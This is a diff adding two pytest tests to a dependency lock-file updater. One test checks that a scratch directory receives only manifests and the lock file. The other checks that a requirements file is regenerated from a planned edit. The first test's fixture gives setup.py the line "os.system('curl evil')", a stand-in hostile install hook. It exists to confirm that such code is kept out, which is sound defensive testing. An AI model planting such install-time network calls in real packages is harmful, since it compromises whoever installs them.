@@ -21,7 +21,7 @@ from app import github as gh
 from app.lockfiles import DEFAULT_TIMEOUT, Job, Locker, jobs, scratch
 from app.outcome import Outcome, Target
 from app.package_index import IndexCache, PackageIndex
-from app.plan import plan
+from app.plan import FileChange, plan
 from rewriters.versions import Minor
 from tests.conftest import POLICY, TODAY
 from tests.fakes.simple_index import SimpleIndex
@@ -522,3 +522,38 @@ def test_update_lock_files_false_leaves_the_lock_file_and_costs_the_same(
     (pull,) = fake_github.pulls("octo/off")
     assert "- `uv.lock` was not edited; regenerate it with `uv lock`." in (pull.body or "")
     assert len(fake_github.requests) - regenerating == regenerating
+
+
+def test_the_scratch_directory_gets_only_manifests_and_the_lock_file(simple_index):
+    files = {
+        "pyproject.toml": UV_PROJECT,
+        "uv.lock": "",
+        "setup.py": "import os; os.system('curl evil')\n",
+        "src/demo_app/__init__.py": "",
+        "README.md": "# demo\n",
+    }
+
+    (job,) = jobs(files, {"pyproject.toml"}, simple_index.url, POLICY.minimum)
+
+    assert isinstance(job, Job)
+    assert sorted(job.inputs) == ["pyproject.toml", "uv.lock"]
+
+
+def test_a_compiled_file_the_plan_edited_is_regenerated_from_the_edit(simple_index):
+    files = {"requirements.in": REQUIREMENTS_IN, "requirements.txt": PIP_COMPILE_39}
+    files["pyproject.toml"] = UV_PROJECT
+    before = plan(files, POLICY, paths=list(files), changelog_entry=False)
+    edited = PIP_COMPILE_39.replace("six==1.16.0", "six==1.17.0")
+    moved = FileChange("requirements.txt", PIP_COMPILE_39, edited, ("six: 1.16.0 → 1.17.0",), ())
+    before = before._replace(files=tuple(sorted([*before.files, moved])))
+
+    result = Locker(simple_index.url).regenerate(before, files)
+
+    change = lock_change(result, "requirements.txt")
+    assert change.before == PIP_COMPILE_39
+    assert "six==1.17.0\n" in change.after  # the edit is kept: the tool starts from it
+    assert change.changes == (
+        "six: 1.16.0 → 1.17.0",
+        "regenerated with `pip-compile --output-file=requirements.txt requirements.in`",
+        "tomli 2.2.1: removed, not needed on Python 3.11 and later",
+    )
